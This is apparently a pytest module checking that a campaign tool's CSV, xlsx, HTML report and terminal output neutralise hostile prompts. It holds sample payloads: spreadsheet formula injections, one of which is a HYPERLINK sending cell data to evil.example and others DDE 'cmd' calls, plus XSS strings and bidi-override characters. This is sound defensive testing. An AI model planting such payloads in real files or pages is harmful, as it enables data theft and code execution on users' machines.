"""Prompts that mean something to a spreadsheet, a browser or a terminal, through a whole run: text everywhere."""

import csv
import json
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from browser_support import chromium, console, run_script, show, until
from campaign_support import Finished, PrefectApi, Workplace, rows_of
from selenium.common.exceptions import NoAlertPresentException

from tasks.exports import neutral_cell, original_cell

PROMPTS = {
    "link": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "command": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3*cmd|'x'!A0",
    "sum": "@SUM(A1:A9)",
    "marked": "'=1+1",
    "wide": "\uff1d1+1",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>",
    "closing": "</script></style></title><!-- {{{{7*7}}}} {{% raw %}}",
    "override": "right\u202eto left\u2066 and back",
    "lines": 'two\nlines, a comma and a "quote"',
    "long": "snow " * 500,
}


@pytest.fixture(scope="module")
def place(prefect_api: PrefectApi, tmp_path_factory: pytest.TempPathFactory) -> Workplace:
    return Workplace(tmp_path_factory.mktemp("inert") / "work", prefect_api)


@pytest.fixture(scope="module")
def campaign(place: Workplace) -> str:
    image = place.picture()
    return place.campaign(
        [{"brief": name, "edit_prompt": prompt, "edit_image": image} for name, prompt in PROMPTS.items()]
    )


@pytest.fixture(scope="module")
def finished(place: Workplace, campaign: str) -> Finished:
    finished = place.run("run", campaign, "--json")
    assert finished.status == 0, finished
    return finished


@pytest.fixture
def out(place: Workplace, finished: Finished) -> Path:
    return place.out(finished.document["run"])


def sent(prompt: str) -> str:
    """Braces are written twice; the outer spaces of a prompt are nobody's wish."""
    return prompt.replace("{{", "{").replace("}}", "}").strip()


def test_the_service_is_sent_exactly_what_was_written(place: Workplace, finished: Finished) -> None:
    assert finished.status == 0
    books = place.books()
    try:
        made = sorted(prediction.prompt for prediction in books.predictions())
    finally:
        books.close()
    assert made == sorted(map(sent, PROMPTS.values()))


def test_no_cell_of_any_csv_is_a_formula(out: Path) -> None:
    found = set()
    for path in out.glob("*.csv"):
        for row in rows_of(path):
            for cell in row.values():
                assert neutral_cell(original_cell(cell)) == cell, (path.name, cell)
                assert "\x1b" not in cell
                found.add(original_cell(cell))
    assert {*PROMPTS.values()} - {PROMPTS["long"]} <= found


def test_no_cell_of_the_workbook_is_a_formula(out: Path) -> None:
    book = openpyxl.load_workbook(out / "tables.xlsx")
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    texts = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
    assert sent(PROMPTS["link"]) in texts | {original_cell(str(text)) for text in texts}


def test_what_tools_read_is_exact(out: Path) -> None:
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    assert {*map(sent, PROMPTS.values())} <= set(strings(manifest))
    frames = [pd.read_parquet(path) for path in out.glob("*.parquet")]
    assert frames
    for frame in frames:
        assert {*frame["brief"]} >= {*PROMPTS}


def test_the_page_shows_texts_and_runs_nothing(out: Path, tmp_path: Path) -> None:
    with chromium(tmp_path / "profile") as browser:
        show(browser, out / "report.html")
        until(browser, "document.readyState === 'complete'")
        with pytest.raises(NoAlertPresentException):
            _ = browser.switch_to.alert.text
        body = run_script(browser, "document.body.textContent")
        assert sent(PROMPTS["script"]) in body
        assert "{7*7}" in body, "something calculated it"
        assert "right[U+202E]to left[U+2066] and back" in body
        assert not {"\u202e", "\u2066"} & set(body)
        assert run_script(browser, "document.querySelectorAll('img[src=x], [onerror]').length") == 0
        assert console(browser) == []


def test_the_results_run_again_as_a_campaign_and_cost_nothing(
    place: Workplace, finished: Finished, out: Path
) -> None:
    assert finished.status == 0
    with (out / "results.csv").open(newline="", encoding="utf-8") as file:
        assert len(list(csv.DictReader(file))) == len(PROMPTS)
    again = place.run("run", str(out / "results.csv"), "--json", "--frozen")
    assert again.status == 0, again
    assert again.document["stages"] | {"generated": 0} == again.document["stages"]
    assert again.document["stages"]["cached"] == len(PROMPTS)


def test_a_terminal_is_steered_by_nothing(place: Workplace, campaign: str, finished: Finished) -> None:
    assert finished.status == 0
    for arguments in (("plan", campaign), ("runs",), ("report", "latest"), ("diff", "latest", "latest")):
        said = place.run(*arguments)
        assert not {"\x1b", "\x07", "\u202e", "\u2066"} & set(said.stdout + said.stderr), arguments


def strings(value: object) -> list[str]:
    if isinstance(value, dict):
        return [text for part in value.values() for text in strings(part)]
    if isinstance(value, list):
        return [text for part in value for text in strings(part)]
    return [value] if isinstance(value, str) else []
